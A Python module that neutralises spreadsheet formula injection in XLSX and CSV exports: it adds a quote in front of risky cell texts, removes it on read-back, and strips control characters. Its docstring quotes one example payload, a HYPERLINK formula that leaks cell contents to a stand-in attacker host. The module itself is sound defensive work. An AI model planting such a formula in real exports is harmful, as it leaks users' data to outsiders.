"""Text written into a spreadsheet, and read back, so that no cell becomes a formula.

A name imported as `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")` must reach the user as
that text, never as a live formula (OWASP, "CSV Injection"): every text goes into its cell as a
string, and one that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single
quote in front. A text that already begins with the quote gets one more, so that reading a cell
back (`restore`) takes exactly one quote off and every text survives the round trip: "+84 912
345 678" exported and imported again is "+84 912 345 678".

Every XLSX writer puts its values through `value` (or `put` and `append`) and ends with
`finish`, which also catches a cell written without it; every CSV writer writes its fields
through `text`; every reader of a spreadsheet passes each text through `restore`. Pure: no Django.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NEUTRALISED = (*FORMULA_STARTS, QUOTE)
# the control characters XML 1.0 cannot carry (openpyxl's ILLEGAL_CHARACTERS_RE, which refuses
# them with an exception)
_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def text(content: str) -> str:
    """The text as it is written into a cell: a leading quote where a spreadsheet could take
    it for a formula (or where it already begins with a quote)."""
    return QUOTE + content if content.startswith(_NEUTRALISED) else content


def restore(content: str) -> str:
    """The text as it was before `text`: the one quote put in front taken off again. A quote
    before anything else ("'Ngọc") was typed by someone and is kept."""
    if content.startswith(QUOTE) and content[1:].startswith(_NEUTRALISED):
        return content[1:]
    return content


def value(content: object) -> object:
    """What a writer puts in a cell: a text through `text`, without the control characters
    an XLSX file cannot hold; numbers, dates and empty cells as they are."""
    if isinstance(content, str):
        return text(_ILLEGAL.sub("", content))  # removed first: "\x01=A1" is a formula too
    return content


def put(sheet: Worksheet, row: int, column: int, content: object) -> Cell:
    """`sheet.cell(row, column, content)` through `value`."""
    return sheet.cell(row=row, column=column, value=value(content))


def append(sheet: Worksheet, contents: Iterable[object]) -> None:
    """`sheet.append(contents)` through `value`."""
    sheet.append([value(content) for content in contents])


def finish(book: Workbook) -> bytes:
    """The workbook's bytes, every text cell a string: openpyxl takes a text beginning with "="
    for a formula and "#N/A" for an error code; a formula left by a writer that did not use
    `value` is neutralised here."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "s":
                    if cell.data_type == "f":
                        cell.value = value(cell.value)
                    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """Rows as CSV in UTF-8 with a byte-order mark (so Excel reads the accents), each field
    through `value`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([value(field) for field in row])
    return out.getvalue().encode("utf-8-sig")
